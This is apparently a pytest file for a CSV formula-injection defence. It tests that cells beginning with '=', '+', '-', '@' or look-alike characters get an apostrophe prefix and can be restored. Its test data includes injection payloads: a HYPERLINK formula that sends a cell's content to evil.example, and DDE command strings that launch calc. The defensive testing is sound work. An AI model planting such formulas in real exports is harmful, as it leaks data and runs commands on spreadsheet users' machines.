"""No spreadsheet runs a cell of our CSV, numbers stay numbers, and the original text can be restored."""

from __future__ import annotations

import itertools
import re
from pathlib import Path

import pytest

from evals.csv_cells import _NEUTRAL_START, neutralise_cell, restore_cell

ROOT = Path(__file__).resolve().parents[2]
DANGEROUS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example?"&A1)', '\'=HYPERLINK("http://evil.example?"&A1)'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("- a list", "'- a list"),
    (" =1+1", "' =1+1"),
    ("\u00a0=1+1", "'\u00a0=1+1"),
    ("\ufeff=1+1", "'\ufeff=1+1"),
    ("\x00=1+1", "'\x00=1+1"),
    ("\t=1+1", "\t'=1+1"),
    ("\r=1+1", "\r'=1+1"),
    ("\n=1+1", "\n'=1+1"),
    ("＝1+1", "'＝1+1"),
    ("＋1+1", "'＋1+1"),
    ("－1+1", "'－1+1"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("a;=1+1;b", "a;'=1+1;b"),
    ("a\n=1+1", "a\n'=1+1"),
    ("a;;\t =1", "a;;\t' =1"),
    ("'=1+1", "''=1+1"),
    ("'' =1+1", "'''" + " =1+1"),
    ("-1.5; -2", "'-1.5;' -2"),
    ("-1,5", "'-1,5"),
    ("-1.5\n", "'-1.5\n"),
    ("'-1.5", "''-1.5"),
    ("-１", "'-１"),
    ("-", "'-"),
]
HARMLESS = ["", "o3", "a=b", "1-2", "2025-01-20", "a; b", "'quoted'", "it's", '["-1", "=2"]', "1;2"]
NUMBERS = ["-1.5", "+3", "-2e-05", "-0", "-1.25E+10"]


@pytest.mark.parametrize(("text", "neutral"), DANGEROUS)
def test_a_formula_gets_an_apostrophe_and_is_restored(text: str, neutral: str) -> None:
    assert neutralise_cell(text) == neutral
    assert restore_cell(neutral) == text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_other_text_and_numbers_stay_as_they_are(text: str) -> None:
    assert neutralise_cell(text) == text
    assert restore_cell(text) == text


def test_every_short_text_is_restored() -> None:
    texts = ["".join(signs) for n in range(6) for signs in itertools.product("'=-; \t1", repeat=n)]
    assert [text for text in texts if restore_cell(neutralise_cell(text)) != text] == []


def test_the_documents_give_the_pattern_that_restores_a_cell() -> None:
    assert f're.sub(r"{_NEUTRAL_START.pattern}", "", text)' in (ROOT / "docs" / "data.md").read_text()


def test_every_module_that_writes_csv_neutralises_it() -> None:
    writes = re.compile(r"csv\.writer|DictWriter|CSVWriter|write_csv|to_csv")
    sources = [
        path for package in ("evals", "leaderboard", "worker") for path in (ROOT / package).rglob("*.py")
    ]
    writers = {path for path in sources if writes.search(path.read_text())}
    assert len(writers) == 2
    assert [path for path in writers if "neutralise_cell(" not in path.read_text()] == []
